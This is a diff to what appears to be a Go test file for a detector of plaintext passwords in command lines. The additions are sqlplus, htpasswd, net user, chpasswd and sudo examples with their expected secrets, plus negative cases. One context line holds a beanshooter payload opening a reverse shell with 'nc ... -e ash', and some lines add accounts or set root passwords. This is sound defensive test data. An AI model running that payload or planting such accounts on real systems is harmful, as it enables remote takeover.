@@ -70,6 +70,30 @@ docker run -e MYSQL_ROOT_PASSWORD=letmein -d mysql:8 | letmein
 ConvertTo-SecureString "P@ssw0rd!9" -AsPlainText -Force | P@ssw0rd!9
 You can connect with mysql -u root -pswordfish and then create the user. | swordfish
 mosquitto_pub -h mq -u sensor -P m0n1tor -t x -m y | m0n1tor
+sqlplus scott/tiger@orcl @run.sql | tiger
+sqlplus -s app_owner/Wint3r#9@//db.example:1521/svc <<EOF | Wint3r#9
+sqlplus scott/"P@ss/w0rd"@orcl | P@ss/w0rd
+$ORACLE_HOME/bin/sqlplus system/rosebud9 | rosebud9
+sqlldr userid=loader/rosebud control=a.ctl | rosebud
+expdp system/manager12 DIRECTORY=d DUMPFILE=x.dmp | manager12
+rman target sys/rosebud9@prod log=x.log -silent | rosebud9
+htpasswd -b /etc/nginx/.htpasswd bob hunter2 | hunter2
+RUN htpasswd -cb /etc/squid/passwd bob swordfish | swordfish
+htpasswd -nbB admin "hollyhock" | hollyhock
+htpasswd -bnBC 10 admin hunter22 >> /auth/htpasswd | hunter22
+net user bob Passw0rd!9 /add | Passw0rd!9
+net user guest rosebud /add /domain | rosebud
+cmd.exe /c "net user helpdesk L3tmein! /add" | L3tmein!
+net use Z: \\files\share Hunter2! /user:corp\bob | Hunter2!
+net use \\files\share /user:corp\bob hunter22 | hunter22
+echo "root:hunter2" {{PIPE}} chpasswd | hunter2
+RUN useradd -m bob && echo 'bob:rosebud' {{PIPE}}chpasswd | rosebud
+    echo root:toor42 {{PIPE}} sudo chpasswd | toor42
+chpasswd <<< "bob:rosebud9" | rosebud9
+echo hunter2 {{PIPE}} docker login -u bob --password-stdin registry.example | hunter2
+echo 'hunter22' {{PIPE}} sudo -S apt-get update | hunter22
+printf '%s' rosebud9 {{PIPE}} sudo -u x -S id | rosebud9
+echo -n rosebud1 {{PIPE}} passwd --stdin bob | rosebud1
 beanshooter serial 192.0.2.2 1090 "nc 192.0.2.1 4444 -e ash" --username admin --password admin | admin
 `
 
@@ -114,6 +138,35 @@ func TestPasswordsOverSeveralLines(t *testing.T) {
 // Lines in which an option is another's, or stands for nothing yet.
 const plainLines = `
 mkdir -p build1/dir2
+sqlplus / as sysdba
+sqlplus /nolog @run.sql
+sqlplus -s "$USER/$PASS@$DB"
+sqlplus ${DB_USER}/${DB_PASS}@orcl
+sqlplus username/password@connect_identifier
+sqlplus user@db
+sqlplus scripts/run.sql
+run sqlplus and/or sqlldr as that user
+expdp / DIRECTORY=d
+htpasswd -c /etc/nginx/.htpasswd bob
+htpasswd -nB admin
+htpasswd -b "$FILE" "$USER" "$PASS"
+htpasswd -b file user password
+net user bob /delete
+net user bob * /add
+net user %1 %2 /add
+net user administrator
+The net user experience matters to us
+net use Z: \\files\share /persistent:yes
+net use Z: /delete
+a net useful life of 10 years1 applies
+echo "root:$PASS" {{PIPE}} chpasswd
+echo "${user}:${pass}" {{PIPE}} sudo chpasswd
+echo "$TOKEN" {{PIPE}} docker login -u bob --password-stdin
+cat pw.txt {{PIPE}} docker login -u bob --password-stdin
+echo hello123 {{PIPE}} tee -a x.log
+echo deb1 http://x {{PIPE}} sudo tee -a /etc/apt/sources.list
+echo hello123; cat x {{PIPE}} sudo -S id
+echo hello123 {{PIPE}}{{PIPE}} sudo -S id
 cp -p file1 file2
 nc -p 8080 10.0.0.1
 docker run -p 80:80 nginx
